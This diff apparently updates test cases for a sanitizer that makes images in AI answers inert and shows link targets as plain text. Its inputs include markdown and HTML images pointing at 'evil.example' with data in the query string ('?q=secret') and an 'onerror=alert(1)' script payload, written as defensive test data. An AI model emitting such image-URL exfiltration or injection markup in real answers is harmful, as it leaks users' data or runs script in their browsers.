@@ -204,21 +204,27 @@ def test_configured_checkers_combine_strictest_wins(classifier, settings):
 
 # --- inert images in answers ---------------------------------------------------------------
 
+# The full hostile catalogue is tests/safety/test_markup.py; these are the basics.
 MARKUP = [
     ("See ![chart](https://evil.example/x.png?q=secret) here", "See [image: chart] here"),
     ("![](http://evil.example/p.gif)", "[image]"),
     ('![a](https://e.example/a.png "title")', "[image: a]"),
     ("<img src=https://evil.example/x?d=1>", "[image]"),
     ("<IMG SRC='x' onerror=alert(1)>", "[image]"),
+    # Links become text that shows their target: a renderer can no longer hide it.
     (
         "Read [the docs](https://docs.example.com) first",
-        "Read [the docs](https://docs.example.com) first",
+        "Read the docs (https://docs.example.com) first",
     ),
+    ('<a href="https://docs.example.com">the docs</a>', "the docs (https://docs.example.com)"),
     ("a < b and c > d", "a < b and c > d"),
     ("Wow! Great [sic]", "Wow! Great [sic]"),
-    ("<image> is not an img tag", "<image> is not an img tag"),
-    ("![unterminated](https://evil.example/x", "![unterminated](https://evil.example/x"),
-    ("![alt\n](x)", "![alt\n](x)"),
+    # Browsers read <image> as <img>.
+    ("<image> is an img tag", "[image] is an img tag"),
+    # No end: the image is gone, what would have been its URL is plain text.
+    ("![unterminated](https://evil.example/x", "[image: unterminated] (https://evil.example/x"),
+    # CommonMark allows a line break in alt text.
+    ("![alt\n](x)", "[image: alt]"),
 ]
 
 
